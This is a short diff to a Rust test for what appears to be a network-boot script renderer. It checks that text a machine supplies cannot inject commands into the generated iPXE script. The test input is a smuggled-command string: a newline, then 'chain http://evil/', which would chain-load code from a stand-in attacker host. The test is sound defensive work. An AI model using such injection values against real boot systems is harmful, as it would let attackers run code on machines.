@@ -78,7 +78,8 @@ fn the_installer_is_started_with_the_arguments_of_its_release() {
 fn a_machines_own_words_cannot_become_boot_script_commands() {
     let site = paper_site();
     let renderer = Renderer::new().unwrap();
-    let script = renderer.boot_script_local_disk(&site.nodes[0], "x\nchain http://evil/ || ${net0/mac} && y").unwrap();
+    let reason = "x\nchain http://evil/ || ${net0/mac} && y";
+    let script = renderer.boot_script_local_disk(&site.nodes[0], reason).unwrap();
     assert!(script.contains("boots its own disk: x chain http://evil/ net0/mac y\n"), "{script}");
     assert!(script.contains("\nsanboot --no-describe --drive 0x80 || exit 1\n"), "{script}");
     assert!(script.contains("\nchain file://RACKSTART/EFI/BOOT/BOOTX64.EFI ||\nexit 1\n"), "{script}");
